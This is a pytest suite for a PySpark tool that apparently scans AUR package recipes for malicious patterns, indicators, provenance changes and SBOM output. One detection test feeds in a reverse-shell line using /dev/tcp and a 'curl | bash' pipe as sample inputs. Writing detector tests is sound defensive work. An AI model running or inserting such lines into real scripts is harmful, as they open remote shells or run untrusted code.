"""Rules of one's own, indicator files, metadata, reputation, stored state, SBOM and tree texts, gates and streams."""

import json

import pytest
from pyspark.sql import functions as F

from packsieve import config
from packsieve.functions import neturl
from packsieve.operators import catalog, gates, graph, ioc, metadata, provenance, report, rulebook, scan, threat
from packsieve.sources import indicators, packages
from packsieve.streaming import feed

RULES = """
[[rule]]
id = "A-1"
name = "One"
severity = "high"
category = "persistence"
recommendation = "-"
[[rule.patterns]]
type = "literal"
text = "Über.cfg"
[[rule.patterns]]
type = "variable"
name = "x"
value_pattern = "a+"
[[rule.patterns]]
type = "regex"
pattern = "a|b"

[[rule]]
id = "A-1"
name = "Another of that id"
severity = "low"
category = "persistence"
recommendation = "-"
file_types = ["install_script"]
[[rule.patterns]]
type = "regex"
pattern = "zz"
"""


def lines(spark, *rows):
    told = [("p", kind, "f", n, text, None, None, False, False) for n, (kind, text) in enumerate(rows)]
    return spark.createDataFrame(told, "pkg_id string, file_type string, file string, line_no int, raw string, deobf string, resolved string, is_comment boolean, is_info boolean")


def test_rules_from_toml(spark, tmp_path):
    rules = rulebook.read_toml(RULES)
    assert rules[0].file_types == ("pkgbuild", "install_script") and rulebook.by_id(rules)["A-1"].title == "Another of that id"
    found = scan.rule_matches(lines(spark, ("pkgbuild", "é ÜBER.CFG"), ("install_script", "zz b"), ("pkgbuild", "zz überxcfg")), rules).collect()
    assert [r.column for r in found if (r.ord, r.pat_idx, r.line) == (0, 0, 0)] == [4]
    assert {(r.ord, r.pat_idx, r.line) for r in found} == {(0, 0, 0), (0, 2, 0), (0, 2, 1), (0, 2, 2), (1, 0, 1)}
    (tmp_path / "b.toml").write_text(RULES)
    (tmp_path / "a.toml").write_text("[[rule]]\nid = 1")
    (tmp_path / "c.txt").write_text("no rules")
    got, bad = rulebook.read_folder(str(tmp_path))
    assert len(got) == 2 and list(bad) == ["a.toml"]
    with pytest.raises(FileNotFoundError):
        rulebook.read_folder(str(tmp_path / "none"))
    odd = catalog.Rule("B", "low", "persistence", "P", None, "b", ("(", ))
    assert list(rulebook.broken(spark, [odd, *rules])) == ["B"] and not rulebook.broken(spark, catalog.RULES)
    assert rulebook.sound(spark, [odd, *rules]) == rules
    off = catalog.Rule("C", "low", "persistence", "P", None, "c", ("x",), enabled=False)
    assert [r.id for r in rulebook.add(rules, [off, odd])] == ["A-1", "A-1", "B"]


def test_rule_folders_in_order(tmp_path):
    for n, name in enumerate(("dist", "admin", "user")):
        (tmp_path / name).mkdir()
        (tmp_path / name / "r.toml").write_text(RULES.replace('name = "One"', f'name = "Of {name}"').split("[[rule]]", 2)[0] + "[[rule]]" + RULES.replace('name = "One"', f'name = "Of {name}"').split("[[rule]]", 2)[1])
    (tmp_path / "admin" / "bad.toml").write_text("[[rule]")
    folders = [str(tmp_path / x) for x in ("dist", "missing", "admin", "user")]
    rules, bad = rulebook.read_folders(folders)
    assert [r.title for r in rules] == ["Of dist", "Of admin", "Of user"] and rulebook.by_id(rules)["A-1"].title == "Of user" and list(bad) == [f"{folders[2]}/bad.toml"]
    (tmp_path / "c.toml").write_text(f"rule_folders = {json.dumps(folders)}\nrules_path = {json.dumps(folders[0])}\n")
    assert [r.title for r in config.read(str(tmp_path / "c.toml")).rules()[0]][-4:] == ["Of dist", "Of admin", "Of user", "Of dist"]
    (tmp_path / "c.toml").write_text("rule_folders = 1")
    with pytest.raises(config.ConfigError):
        config.read(str(tmp_path / "c.toml"))


def test_listing_and_advice():
    low = catalog.listing(category="persistence", severity="critical")
    assert low and all(e["category"] == "persistence" and e["severity"] == "critical" for e in low) and len(catalog.listing()) == 117
    assert [e["severity"] for e in catalog.listing(owner="checksum")][0] == "high" and not catalog.listing(category="none")
    assert all(e["recommendation"] for e in catalog.entries()) and len({e["recommendation"] for e in catalog.entries()}) > 40


def test_indicator_files(spark, tmp_path):
    first, second, broken = tmp_path / "1.toml", tmp_path / "2.toml", tmp_path / "3.toml"
    first.write_text('[npm_packages]\n"js-digest" = "new"\n"x" = "new"\n[[campaigns]]\nid = "new"\nname = "New"\n[sha256]\n"ABCD" = "new"\n')
    second.write_text('[npm_packages]\n"x" = "newer"\n[[campaigns]]\nid = "new"\nname = "Renamed"\n')
    broken.write_text("[npm_packages")
    table, campaigns, bad = indicators.load(spark, [str(first), str(tmp_path / "missing.toml"), str(second), str(broken)])
    values = {(r.kind, r.value): r.campaign_id for r in table.collect()}
    assert values[("npm", "x")] == "newer" and values[("npm", "js-digest")] == "new" and values[("sha256", "abcd")] == "new" and values[("file", "scales.bpf.c")] == "atomic-arch-2026-06"
    assert {r.id: r.name for r in campaigns.collect()}["new"] == "New" and list(bad) == [str(broken)]


def test_tokens_hold_letters_of_any_script(spark):
    table = spark.createDataFrame([("npm", "js-digest", "c")], ioc.INDICATOR_TYPE)
    row = "js-digest\néjs-digest\n(js-digest)\njs-digest.x\n#js-digest\n日js-digest js-digest"
    texts = spark.createDataFrame([("p", "pkgbuild", "f", "", "", row, row)], "pkg_id string, file_type string, file string, code string, plain string, masked string, masked_plain string")
    assert sorted(r.line for r in ioc.hits(texts, table).collect()) == [1, 3, 6]


@pytest.mark.parametrize(
    "item, vcs, pinned",
    [("git+https://h/r#commit=a", True, True), ("git+https://h/r#COMMIT=a", True, True), ("https://h/r.git", True, False), ("https://h/r.git#commit=a", False, False), ("https://h/?git+http", True, False), ("n::hg+x://h#tag=1?revision=2", True, True), ("x.patch", False, False)],
)
def test_sources(spark, item, vcs, pinned):
    s = neturl.source(F.col("i"))
    assert spark.createDataFrame([(item,)], "i string").select(neturl.is_vcs(s), neturl.is_pinned(s)).first() == (vcs, pinned)


def test_provenance_markers(spark):
    text = "cat < /dev/tcp/1.2.3.4/5\nx.bpf.o\nCURL x |bash\nsystemctl enable x\nbpf(1)"
    assert spark.createDataFrame([(text,)], "t string").select(provenance.markers(F.col("t"))).first()[0] == ["curl-net", "ebpf", "pipe-shell", "reverse-shell"]


def test_provenance_state(spark):
    files = lambda *rows: spark.createDataFrame(rows, "pkg_id string, file string, content string")
    old = provenance.snapshots(files(("a", "f", "make"), ("b", "f", "eval x"), ("gone", "f", "x")), F.lit("1"))
    raw = provenance.stored(old).unionByName(spark.createDataFrame([("c", "{not json"), ("d", '{"digest": "x"}'), ("e", None)], "package string, record string"))
    state, bad = provenance.known_state(raw)
    assert sorted(r.package for r in bad.collect()) == ["c", "d", "e"]
    now = provenance.snapshots(files(("a", "f", "npm install x; curl y"), ("b", "f", "eval x"), ("c", "f", "eval y")), F.lit("2"))
    assert [(r.pkg_id, r.id, r.severity, r.detail) for r in provenance.findings(now, state).collect()] == [("a", "PROV-001", "high", "curl/wget fetch, npm package install")]
    after = {r.package: (r.markers, r.last_seen) for r in provenance.next_state(now, state).collect()}
    assert after == {"a": (["curl-net", "npm"], "2"), "b": (["eval"], "1"), "c": (["eval"], "2"), "gone": ([], "1")}


def test_findings_with_verdicts_and_baseline(spark):
    recipe = "pkgname=p\npkgver=1\npkgrel=1\nsource=('https://h.example/x.tgz#frag' 'git+https://h.example/r')\nsha256sums=('{}' 'SKIP')\nbuild() {{\n  eval \"$x\"\n}}\n".format("AB" * 32)
    files = spark.createDataFrame([("p", "pkgbuild", "PKGBUILD", recipe)], "pkg_id string, file_type string, file string, content string")
    verdicts = spark.createDataFrame([("vt", "ab" * 32, 1, 0), ("urlhaus", "https://h.example/x.tgz", 0, 2)], "provider string, subject string, malicious int, suspicious int")
    state = spark.createDataFrame([("p", "d", ["npm"], "then")], "package string, digest string, markers array<string>, last_seen string")
    found = {r.id: r for r in scan.findings(scan.Context(files), verdicts=verdicts, baseline=state).collect()}
    assert {"TI-VT-001", "PROV-001"} <= set(found) and "TI-URLHAUS-001" not in found
    assert found["TI-VT-001"].snippet == "sha256: " + "ab" * 32 and found["PROV-001"].category == "suspicious_metadata"
    assert threat.lookups(scan.Context(files).packages, 1).count() == 1


def test_metadata(spark):
    row = lambda name: spark.createDataFrame([(name,)], "name string")
    probes = spark.createDataFrame([("a", 1, "/1", "absent"), ("a", 3, "/3", "regular"), ("a", 2, "/2", "other"), ("b", 1, "/1", "other"), ("c", 1, "/1", "absent")], "name string, place int, path string, status string")
    assert {r.name: (r.outcome, r.path) for r in metadata.candidates(probes).collect()} == {"a": ("found", "/3"), "b": ("refused", None), "c": ("not found", None)}
    info = spark.createDataFrame([("x", 1), ("y", 2)], "name string, v int")
    assert metadata.lookup(info, row("x").union(row("-bad")).union(row("zz"))).count() == 1 and metadata.dropped_names(row("-bad")).count() == 1
    assert {r.name: r.requested for r in metadata.requested(row("x"), info).collect()} == {"x": True, "y": False}
    assert metadata.installed(spark.createDataFrame([("a 1.0-1",), ("  b 2",), ("",)], "line string")).count() == 2


def test_sbom_and_tree(spark):
    nodes = spark.createDataFrame([("app", 0, "community", False), ("lib", 1, "community", True), ("libc", 1, "repo", False)], "name string, depth int, origin string, orphan boolean")
    edges = spark.createDataFrame([("app", "lib"), ("app", "libc"), ("lib", "app"), ("far", "lib")], "parent string, child string")
    scans = spark.createDataFrame([("app", 2, 1, True), ("far", 1, 1, False)], "pkg_id string, critical int, high int, opaque boolean")
    found = spark.createDataFrame([("app", "DLE-001", "critical", "t", "r"), ("far", "X", "low", "t", "r")], "pkg_id string, id string, severity string, title string, recommendation string")
    doc = json.loads(report.sbom(nodes, edges, scans, found).first().bom)
    assert [c["name"] for c in doc["components"]] == ["app", "lib", "libc"] and doc["serialNumber"].startswith("urn:uuid:") and len(doc["serialNumber"]) == 45
    assert {p["name"]: p["value"] for p in doc["components"][0]["properties"]} == {"packsieve:origin": "community", "packsieve:depth": "0", "packsieve:critical": "2", "packsieve:high": "1"}
    assert doc["dependencies"] == [{"ref": "app", "dependsOn": ["lib", "libc"]}, {"ref": "lib", "dependsOn": ["app"]}]
    assert [(v["id"], v["affects"]) for v in doc["vulnerabilities"]] == [("DLE-001", [{"ref": "app"}])]
    told = {r.name: r.note for r in graph.notes(nodes, scans).collect()}
    text = graph.tree("app", [(r.parent, r.child) for r in edges.collect()], told)
    assert text == "app [AUR] !! 2C/1H OPAQUE: runs remote code\n  lib [AUR] [not scanned] ORPHAN\n    app [AUR] !! 2C/1H OPAQUE: runs remote code\n  libc [repo]"
    assert graph.counts(nodes).first().asDict() == {"nodes": 3, "community": 2, "repo": 1, "orphans": 1}
    assert graph.truncated(nodes.where("name != 'libc'"), edges).first().truncated and not graph.truncated(nodes, edges).first().truncated


def test_json_of_packages_without_findings(spark):
    found = spark.createDataFrame([("p", "A", 0, "critical", "c", "t", "f", 1, 2, "code", "d", "r", "CWE-1", 0, 0, 0)], "pkg_id string, id string, sev_rank int, severity string, category string, title string, file string, line int, column int, snippet string, detail string, recommendation string, cwe_id string, analyzer_ord int, ord int, pat_idx int")
    files = spark.createDataFrame([("p", "PKGBUILD"), ("p", "a.install"), ("q", "PKGBUILD")], "pkg_id string, file string")
    docs = {r.pkg_id: json.loads(r.report) for r in report.scan_json(found, files).collect()}
    assert docs["q"] == {"version": "1", "package": "q", "scanned_files": ["PKGBUILD"], "findings": []}
    assert docs["p"]["findings"][0]["metadata"] == {"detail": "d"} and docs["p"]["scanned_files"] == ["PKGBUILD", "a.install"]
    assert report.text(found).first().report == "[CRITICAL] A t (f:1)\n    code: code\n    do: r\n    see: CWE-1"


def test_trees_without_recipe_and_large_files(spark, tmp_path):
    for name, files in {"ok": {"PKGBUILD": "pkgname=ok"}, "bare": {"x.install": "post_install() {\n}"}, "big": {"PKGBUILD": "#" * (packages.MAX_FILE_BYTES + 1)}}.items():
        (tmp_path / name).mkdir()
        for f, text in files.items():
            (tmp_path / name / f).write_text(text)
    tree = packages.read_tree(spark, str(tmp_path))
    bad = {r.pkg_id.rsplit("/", 1)[-1]: r.reason for r in packages.read_errors(tree).collect()}
    assert bad == {"bare": "no recipe", "big": "too large"}
    assert packages.read_tree(spark, str(tmp_path), "PKGBUILD").count() == 2


OPERATIONS = {
    "install": ["-S a", "-Syu a", "-Sy --needed a", "--sync a", "-U f.pkg", "--upgrade f", "--noconfirm -S a", "-S --noconfirm -- -a", "a", "--noconfirm a", "-y a", "-S --config=x a", "-US a", "-Ui f", "-SQ a", "--needed --asdeps a b", "-- a"],
    "pass": ["", "-S", "-Syu", "--sync", "-Ss a", "-S --search a", "-Si a", "-Sl repo", "-Sg a", "-Sc", "-Sp a", "--sync --info a", "-Q a", "-Qi a", "-R a", "--remove a", "-F a", "-D a", "-T a", "-V", "-G a", "--getpkgbuild a", "-P a", "--show a", "-s a", "--list a", "--", "-Rns a b"],
}


def test_operation(spark):
    rows = [(want, x.split(" ") if x else []) for want, told in OPERATIONS.items() for x in told] + [("pass", None), ("pass", [None]), ("install", [None, "a"])]
    got = spark.createDataFrame(rows, "want string, a array<string>").select("want", "a", gates.operation(F.col("a")).alias("got"), gates.operands(F.col("a")).alias("named")).collect()
    assert not [r for r in got if r.got != r.want]
    named = {" ".join(r.a): r.named for r in got if r.a and None not in r.a}
    assert named["-S --noconfirm -- -a"] == ["-a"] and named["-S --config=x a"] == ["a"] and named["--needed --asdeps a b"] == ["a", "b"] and named["--"] == []
    codes = spark.createDataFrame([("pass",), ("warn",), ("block",), ("abort",), ("fail",)], "o string").select(gates.exit_code(F.col("o"))).collect()
    assert [r[0] for r in codes] == [0, 0, 1, 1, 1]


def test_provenance_of_packages_with_several_files(spark):
    """A package is one text: no finding without a change, one state a package, whatever the order of its files."""
    files = lambda *rows: spark.createDataFrame([("p", *r) for r in rows], "pkg_id string, file_type string, file string, content string")
    recipe, hook = ("pkgbuild", "PKGBUILD", "curl x"), ("install_script", "a.install", "npm install y")
    old = provenance.snapshots(files(hook, recipe), F.lit("1"))
    assert [(r.file, r.markers) for r in old.collect()] == [("PKGBUILD", ["curl-net", "npm"])]
    now = provenance.snapshots(files(recipe, hook), F.lit("2"))
    assert provenance.findings(now, old).count() == 0 and [r.last_seen for r in provenance.next_state(now, old).collect()] == ["1"]
    state, _ = provenance.known_state(provenance.stored(provenance.next_state(now, old)))
    moved = provenance.snapshots(files(("pkgbuild", "PKGBUILD", "npm install y"), ("install_script", "a.install", "curl x")), F.lit("3"))
    assert provenance.findings(moved, state).count() == 0 and [r.last_seen for r in provenance.next_state(moved, state).collect()] == ["3"]
    more = provenance.snapshots(files(recipe, ("install_script", "a.install", "npm install y; eval z"), ("install_script", "b.install", None)), F.lit("4"))
    assert [(r.file, r.detail) for r in provenance.findings(more, state).collect()] == [("PKGBUILD", "eval")]
    with pytest.raises(Exception, match="two states of package p"):
        provenance.stored(old.unionByName(now)).collect()
    twice = spark.createDataFrame([("p", '{"digest":"a","markers":[],"last_seen":"1"}'), ("p", '{"digest":"b","markers":["npm"],"last_seen":"2"}')], "package string, record string")
    assert [(r.digest, r.markers) for r in provenance.known_state(twice)[0].collect()] == [("b", ["npm"])]


def test_settings(tmp_path):
    path = tmp_path / "c.toml"
    assert config.read_or_default(str(path)) == config.Config()
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "a.toml").write_text(RULES)
    path.write_text(f'min_severity = "high"\nrules_path = "{tmp_path}/rules"\nnew_setting = 1\n[cache]\nttl_hours = 2\n')
    got = config.read(str(path))
    assert (got.min_severity, got.cache.ttl_hours, got.cache.max_size_mb, got.timeout_seconds) == ("high", 2, 100, 30)
    assert len(got.rules()[0]) == len(catalog.RULES) + 2 and config.Config().rules() == (catalog.RULES, {})
    for text in ("min_severity = ", 'min_severity = "worst"', "cache = 1", 'timeout_seconds = "x"'):
        path.write_text(text)
        with pytest.raises(config.ConfigError):
            config.read_or_default(str(path))


def test_transactions_of_a_stream(spark, tmp_path):
    targets = spark.createDataFrame([("t1", "a"), ("t1", "b"), ("t2", "a"), ("t3", "unknown")], "transaction string, name string")
    targets.where("transaction != 't3'").coalesce(1).write.mode("append").parquet(f"{tmp_path}/in")
    targets.where("transaction = 't3'").coalesce(1).write.mode("append").parquet(f"{tmp_path}/in")
    verdicts = lambda: spark.createDataFrame([("a", "proceed"), ("b", "warn")], "name string, outcome string")
    stream = spark.readStream.schema(targets.schema).option("maxFilesPerTrigger", 1).parquet(f"{tmp_path}/in")
    feed.outcomes(stream, verdicts, f"{tmp_path}/out", f"{tmp_path}/state").awaitTermination()
    got = {r.transaction: (r.n_targets, r.outcome) for r in spark.read.parquet(f"{tmp_path}/out").collect()}
    assert got == {"t1": (2, "warn"), "t2": (1, "proceed"), "t3": (1, "abort")}
